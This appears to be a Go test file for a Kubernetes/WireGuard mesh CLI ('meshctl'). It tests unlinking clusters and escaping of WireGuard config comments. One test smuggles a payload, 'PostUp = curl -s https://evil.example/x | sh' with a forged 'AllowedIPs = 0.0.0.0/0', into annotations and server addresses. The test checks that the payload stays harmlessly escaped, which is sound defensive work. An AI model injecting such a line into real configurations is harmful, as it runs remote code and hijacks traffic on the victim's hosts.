		t.Errorf("refreshed Secret: annotations %v\n%s", s2.Annotations, s2.Data[clusterlink.LinkKubeconfigKey])
	}
	if exp, _ := clusterlink.LinkTokenExpiry(s2); !exp.Equal(now.Add(48 * time.Hour).Truncate(time.Second)) {
		t.Errorf("refreshed expiry %v", exp)
	}
}

// TestUnlinkIgnoresLinkFlags: unlink reads only the clusters and their
// names; link's range and settings flags, even bad ones, are accepted and
// ignored (a script may share one flag set), while the names are still
// checked.
func TestUnlinkIgnoresLinkFlags(t *testing.T) {
	kube, md := fixtureClients()
	r := runMeshctl(t, kube, md, "unlink", "--from-kubeconfig", "k1", "--from-name", "east", "--to-kubeconfig", "k2", "--to-name", "west",
		"--from-mesh-granularity", "bogus", "--to-mesh-cidr", "not-a-cidr", "--from-allowed-cidr", "nope", "--to-port", "0")
	if r.code != 0 || !strings.Contains(r.stdout, "clusters east and west unlinked") {
		t.Fatalf("unlink with link's flags: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	r = runMeshctl(t, kube, md, "unlink", "--from-kubeconfig", "k1", "--from-name", "east", "--to-kubeconfig", "k2", "--to-name", "east")
	if r.code != 2 || !strings.Contains(r.stderr, `both clusters are named "east"`) {
		t.Fatalf("same names: exit %d, stderr %q", r.code, r.stderr)
	}
}

// A line break in anything meshctl copies into a comment of a WireGuard
// configuration (a meshd.io/location annotation is "any string", a Secret
// reference of a Peer, the API server's address) must not end the comment:
// `showconf` output is fed to wg setconf and wg-quick, which would run a
// PostUp line or route everything through a forged AllowedIPs.
func TestShowconfCommentsCarryNoLineBreak(t *testing.T) {
	const evil = "\nPostUp = curl -s https://evil.example/x | sh\r\nAllowedIPs = 0.0.0.0/0\u2028Table = off\x00"
	nodes, leases, peers := fixture()
	for _, o := range nodes {
		n := o.(*corev1.Node)
		if strings.HasPrefix(n.Name, "us-") {
			n.Annotations[convert.AnnotationLocation] = "us" + evil
		}
	}
	for _, o := range peers {
		if p := o.(*v1alpha1.Peer); p.Spec.PresharedKeySecretRef != nil {
			p.Spec.PresharedKeySecretRef.Namespace += evil
			p.Spec.PresharedKeySecretRef.Name += evil
		}
	}
	kube := kubefake.NewClientset(append(nodes, leases...)...)
	md := fixtureMeshd(peers)
	adjust := func(e *env) {
		e.newClients = func(_, _ string) (*connect.Clients, error) {
			return &connect.Clients{Kube: kube, Meshd: md, Config: &rest.Config{Host: server + evil}}, nil
		}
	}
	keys := map[string]bool{"ListenPort": true, "PublicKey": true, "AllowedIPs": true, "Endpoint": true, "PersistentKeepalive": true}
	for _, args := range [][]string{
		{"showconf", "peer", "laptop"},
		{"showconf", "node", "eu-1"},
		{"showconf", "node", "us-1"},
		{"showconf", "node", "us-1", "--as-peer", "-o", "wireguard"},
	} {
		r := runMeshctlWith(t, kube, md, adjust, args...)
		if r.code != 0 {
			t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
		}
		if !strings.Contains(r.stdout, `\nPostUp = curl`) {
			t.Errorf("%v: the escaped value is not in the comments:\n%s", args, r.stdout)
		}
		for _, l := range strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n") {
			k, _, _ := strings.Cut(l, " = ")
			if l != "" && !strings.HasPrefix(l, "# ") && l != "[Interface]" && l != "[Peer]" && !keys[k] {
				t.Errorf("%v: uncommented line %q:\n%s", args, l, r.stdout)
			}
			if strings.ContainsFunc(l, func(r rune) bool { return r < ' ' || r == 0x7f || r == '\u2028' }) {
				t.Errorf("%v: line %q holds a control character", args, l)
			}
		}
	}
}

func TestCommentSafe(t *testing.T) {
	for in, want := range map[string]string{
		"location us (leader us-1)": "location us (leader us-1)",
		"a\nb\rc\td\x00e\x7f":       `a\nb\rc\td\x00e\x7f`,
		"\u2028\u2029\u0085":        `\u2028\u2029\u0085`,
		"ok\xffbad \ufffd":          `ok\xffbad ` + "\ufffd",
		"zürich":                    "zürich",
	} {
		if got := commentSafe(in); got != want {
			t.Errorf("commentSafe(%q) = %q, want %q", in, got, want)
		}
	}
}
